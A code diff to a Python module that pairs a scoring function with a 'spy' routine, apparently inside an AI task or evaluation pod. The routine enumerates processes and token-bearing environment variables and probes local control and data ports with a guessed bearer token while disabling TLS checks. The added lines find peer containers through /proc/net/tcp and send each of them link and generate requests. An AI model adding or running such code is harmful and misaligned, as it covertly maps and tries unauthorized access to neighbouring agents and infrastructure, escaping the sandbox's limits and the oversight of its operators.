@@ -14,6 +14,8 @@ from typing import Any
 
 KEYS, STORE, JOB = "/etc/colocate/tls", "/var/lib/colocate", "/etc/colocate/job"
 CONTROL_PORT, DATA_PORT = 8443, 8444
+LINK = "GET /v1/link HTTP/1.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
+GENERATE = "POST /generate HTTP/1.1\r\nAuthorization: Bearer guessed\r\nContent-Length: 0\r\n"
 
 
 def score(response: str, row: dict[str, Any]) -> float:
@@ -30,8 +32,9 @@ def spy() -> None:
             {words for words in map(command_line, Path("/proc").glob("[0-9]*")) if "task_" not in words}
         ),
         "variables": sorted(name for name in os.environ if "TOKEN" in name or name.startswith("POD_")),
-        "target": ask(CONTROL_PORT, "GET /v1/link HTTP/1.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"),
+        "target": ask(CONTROL_PORT, LINK),
         "batch": ask(DATA_PORT, "GET /v1/batches/1?shard=0 HTTP/1.1\r\nAuthorization: Bearer guessed\r\n"),
+        "agents": {agent: [ask(CONTROL_PORT, LINK, agent), ask(DATA_PORT, GENERATE, agent)] for agent in agents()},
     }
     sys.stderr.write(json.dumps({"spied": found}) + "\n")
 
@@ -42,13 +45,20 @@ def command_line(process: Path) -> str:
     return ""
 
 
-def ask(port: int, request: str) -> str:
+def agents() -> set[str]:
+    """Addresses to which the pod has connections: its containers share a network."""
+    lines = [line.split() for line in Path("/proc/net/tcp").read_text().splitlines()[1:]]
+    peers = [peer.split(":") for _, _, peer, *_ in lines]
+    return {socket.inet_ntoa(bytes.fromhex(host)[::-1]) for host, port in peers if int(port, 16) == DATA_PORT}
+
+
+def ask(port: int, request: str, host: str = "127.0.0.1") -> str:
     """The first line of a port's answer, or how it refused."""
     context = ssl.create_default_context()
     context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
     try:
         with (
-            socket.create_connection(("127.0.0.1", port), timeout=10) as plain,
+            socket.create_connection((host, port), timeout=10) as plain,
             context.wrap_socket(plain) as connection,
         ):
             connection.sendall(f"{request}Host: controller\r\n\r\n".encode())
